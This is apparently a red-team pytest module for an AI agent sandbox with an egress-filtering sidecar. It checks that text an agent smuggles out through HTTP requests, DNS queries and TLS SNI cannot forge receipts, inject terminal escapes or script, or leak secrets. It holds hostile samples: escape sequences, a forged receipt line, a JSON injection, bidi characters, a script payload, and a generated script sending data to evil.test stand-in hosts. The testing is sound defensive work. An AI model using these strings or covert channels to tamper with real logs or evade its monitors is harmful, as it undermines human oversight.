"""The way back from a sandbox to its host, as far as words go: what an agent can have written into receipts, into the
sidecar's log and into the pages that it is refused with, and what the engine shows of the containers.

The rest of that way has its own files. Hooks, filters, attributes, links, alternates and editors' settings, which would
run or be written on the host: tests/integration/test_workspace_hostile, test_workspace_bind and
tests/unit/test_workspace_program. Devices, fifos, sparse files, a spool that is something else: tests/integration/
test_drain and tests/process/test_drain. Specs that grow or recurse: tests/process/test_spec_hostile; sockets and key
directories as mounts: tests/unit/test_workspace_mounts. Forged, cut and reordered receipts: tests/unit/egress/
test_receipts and tests/unit/test_verify. Sequences in what is printed: tests/unit/test_ui. Labels of an image:
tests/integration/test_lifecycle.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from rich.console import Console

from agent_container.egress_summary import summarise
from agent_container.ui.clean import clean
from agent_egress.receipts import Fields, parse_receipt, verify_chain
from tests.redteam.attempts import SECRETS
from tests.redteam.conftest import Battery
from tests.redteam.judge import with_attempts
from tests.support.net import KEY, docker

WORDS = {
    "title": "\x1b]0;owned\x07",
    "colour": "\x1b[31mDENIED\x1b[0m",
    "clear": "\x1bc\x9b2J",
    "line": '\r\n{"seq":1,"kind":"decision","action":"allow","host":"forged.test"}',
    "json": '","action":"allow","x":"',
    "bidi": "\u202e\u2066tset.live",
    "markup": "[bold red]x[/] <script>alert(1)</script>",
    "zero": "x\0y",
    "long": "a" * 3000,
}
PLACES = {
    "host": "GET http://{}.evil.test/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "connect": "CONNECT {}.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "path": "GET http://marked.evil.test/{} HTTP/1.1\r\nHost: marked.evil.test\r\nConnection: close\r\n\r\n",
    "method": "{} http://marked.evil.test/ HTTP/1.1\r\nHost: marked.evil.test\r\nConnection: close\r\n\r\n",
    "header": "GET http://marked.evil.test/ HTTP/1.1\r\nHost: marked.evil.test\r\nUser-Agent: {}\r\n"
    "Authorization: {}\r\nConnection: close\r\n\r\n",
}
SENDING = """
import contextlib, json, sys
from concurrent.futures import ThreadPoolExecutor
from attempts.tools import proxy_send, tunnel, query, A
import socket
rows = json.loads({rows!r})
def send(row):
    with contextlib.suppress(OSError):
        return proxy_send(row.encode()).decode("latin-1")
    return ""
def ask(word):
    data = word.encode()[:60]
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect(("127.0.0.11", 53))
        sock.send(query("evil.test", A)[:12] + bytes([len(data)]) + data + query("evil.test", A)[12:])
        sock.recv(4096)
def greet(word):
    with contextlib.suppress(OSError, ValueError, TypeError), tunnel("ok.test", sni=word[:60], verify=False):
        pass
with ThreadPoolExecutor(8) as pool:
    pages = list(pool.map(send, rows))
    words = json.loads({words!r})
    list(pool.map(ask, words))
    list(pool.map(greet, words))
print(json.dumps(pages))
"""
_PRINTABLE = re.compile(rb"[\x20-\x7e]+")


@dataclass(frozen=True)
class Said:
    """What became of the words."""

    pages: dict[tuple[str, str], str]
    lines: list[bytes]
    receipts: list[Fields]
    log: str


@pytest.fixture(scope="module")
def said(battery: Battery) -> Iterator[Said]:
    """Every word in every place, and as a name that is asked for and greeted with."""
    rows = {(word, place): PLACES[place].replace("{}", WORDS[word]) for word in WORDS for place in PLACES}
    code = SENDING.format(rows=json.dumps(list(rows.values())), words=json.dumps(list(WORDS.values())))
    pages = json.loads(battery.agent.run(with_attempts(code)))
    lines = battery.sidecar.receipts()
    receipts = [found for found in map(parse_receipt, lines) if found is not None]
    yield Said(dict(zip(rows, pages, strict=True)), lines, receipts, battery.sidecar.logs())


def test_the_chain_is_whole_and_each_line_of_it_is_one_receipt(said: Said) -> None:
    report = verify_chain(said.lines, key=KEY)
    assert {fault.kind for fault in report.faults} <= {"missing-seal"}  # the session goes on
    assert len(said.receipts) == len(said.lines)
    assert [receipt["seq"] for receipt in said.receipts] == list(range(1, len(said.lines) + 1))


def test_a_line_of_the_chain_is_plain_text(said: Said) -> None:
    assert [line for line in said.lines if not _PRINTABLE.fullmatch(line)] == []


def test_no_word_became_a_receipt_of_its_own(said: Said) -> None:
    hosts = {str(receipt.get("host", receipt.get("name", ""))) for receipt in said.receipts}
    assert "forged.test" not in hosts
    allowed = {str(r.get("host")) for r in said.receipts if r.get("kind") == "decision" and r.get("action") == "allow"}
    assert not [host for host in allowed if "evil" in host]
    assert any("marked.evil.test" in host for host in hosts), "the requests left no receipt at all"


def test_the_sidecars_log_is_plain_text(said: Said) -> None:
    assert [line for line in said.log.splitlines() if line and not _PRINTABLE.fullmatch(line.encode())] == []


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("word", WORDS)
def test_a_refusal_repeats_no_word_that_acts(said: Said, word: str, place: str) -> None:
    """A page is text for a terminal as well as for a browser."""
    body = said.pages[word, place].partition("\r\n\r\n")[2]
    assert "<script" not in body
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", body.replace("\r\n", "\n")), body[:300]


@pytest.mark.parametrize("read", ["summary", "rows"])
def test_what_a_host_prints_of_it_is_clean(said: Said, read: str) -> None:
    if read == "summary":
        text = summarise(said.lines).model_dump_json()
    else:
        sink = io.StringIO()
        for receipt in said.receipts:
            Console(file=sink, width=200, no_color=True).print(clean(json.dumps(receipt)), markup=False)
        text = sink.getvalue()
    assert text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)


# --- what the engine and the volumes show ---


@pytest.mark.parametrize("which", ["sidecar", "agent", "volume", "image"])
def test_the_engine_shows_no_secret(battery: Battery, which: str) -> None:
    name = {
        "sidecar": battery.sidecar.name,
        "agent": battery.agent.name,
        "volume": battery.sidecar.volumes["receipts"],
        "image": docker("inspect", "-f", "{{.Image}}", battery.sidecar.name).strip(),
    }[which]
    text = docker("inspect", name)
    assert name in text
    assert not [secret for secret in (*SECRETS, KEY.hex()) if secret in text]


@pytest.mark.parametrize("secret", [*SECRETS, KEY.hex()])
def test_no_receipt_and_no_log_holds_a_secret(said: Said, secret: str) -> None:
    assert secret.encode() not in b"\n".join(said.lines)
    assert secret not in said.log
    assert secret[::-1] not in "".join(said.pages.values())


@pytest.mark.parametrize("volume", ["receipts", "ca"])
def test_a_volume_holds_no_link_no_device_and_no_program(battery: Battery, volume: str) -> None:
    """What the host drains or mounts elsewhere is plain files, whatever an agent did beside it."""
    code = (
        "import os\n"
        "for top, _, names in os.walk('{}'):\n"
        "    for name in names: print(oct(os.lstat(top + '/' + name).st_mode), name)"
    )
    target = {"receipts": "/var/lib/egress", "ca": "/var/lib/egress-ca"}[volume]
    user = {"receipts": "64105:64105", "ca": "0:0"}[volume]
    found = battery.sidecar.execute(code.format(target), user=user).split("\n")[:-1]
    assert found
    assert [row for row in found if not row.startswith(("0o1006", "0o1004"))] == []
